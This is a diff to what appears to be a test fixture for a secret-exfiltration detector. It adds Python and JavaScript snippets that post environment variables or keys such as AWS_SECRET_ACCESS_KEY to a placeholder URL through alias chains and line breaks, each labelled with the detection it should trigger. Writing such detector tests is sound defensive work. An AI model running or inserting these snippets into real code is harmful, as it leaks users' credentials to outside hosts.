@@ -46,6 +46,12 @@ PYTHON = [
     ("import os\ng = os.environ.get\nrequests.post(U, data=g('AWS_SECRET_ACCESS_KEY'))\n", {ENV}),
     ("o = __import__('os')\nrequests.post(U, json=o.environ.copy())\n", {WHOLE}),
     ("import os\nrequests.post(U, json=os.environ.copy())\n", {WHOLE}),
+    # chains of aliases, and a value after a line break or in parentheses
+    ("import os\no = os\nq = o\nrequests.post(U, json=dict(q.environ))\n", {WHOLE}),
+    ("import os\ng = os.getenv\nh = g\nrequests.post(U, data=h('AWS_SECRET_ACCESS_KEY'))\n", {ENV}),
+    ("import os\ng = (os.getenv)\nrequests.post(U, data=g('AWS_SECRET_ACCESS_KEY'))\n", {ENV}),
+    ("import os\ng = \\\n    os.getenv\nrequests.post(U, data=g('AWS_SECRET_ACCESS_KEY'))\n", {ENV}),
+    ("import json\no = json\nq = o\nrequests.post(U, json=dict(q.environ))\n", set()),
     # constant attribute lookups
     ("import os\nrequests.post(U, data=getattr(os, 'environ')['AWS_SECRET_ACCESS_KEY'])\n", {ENV}),
     ('import os\nk = getattr(os, "environ")["AWS_SECRET_ACCESS_KEY"]\nrequests.post(U, data=k)\n', {ENV}),
@@ -88,6 +94,10 @@ JAVASCRIPT = [
     ("import { env as e } from 'node:process';\naxios.post(U, { k: e.OPENAI_API_KEY });\n", {ENV}),
     ("import * as p from 'process';\naxios.post(U, p.env);\n", {WHOLE}),
     ("const p = require('process');\nfetch(U, { method: 'POST', body: JSON.stringify(p.env) });\n", {WHOLE}),
+    ("const p = require('process');\nconst q = p;\naxios.post(U, q.env);\n", {WHOLE}),
+    ("const p =\n  require('process');\naxios.post(U, p.env);\n", {WHOLE}),
+    ("let p;\np = require('process');\naxios.post(U, p.env);\n", {WHOLE}),
+    ("const p = require('path');\nconst q = p;\naxios.post(U, q.env);\n", set()),
     ("fetch(U, { method: 'POST', body: JSON.stringify({ ...process.env }) });\n", {WHOLE}),
     ("const body = JSON.stringify(process['env']);\nfetch(U, { method: 'POST', body });\n", {WHOLE}),
     ("fetch(U, { method: 'POST', body: process.env[`AWS_SECRET_ACCESS_KEY`] });\n", {ENV}),
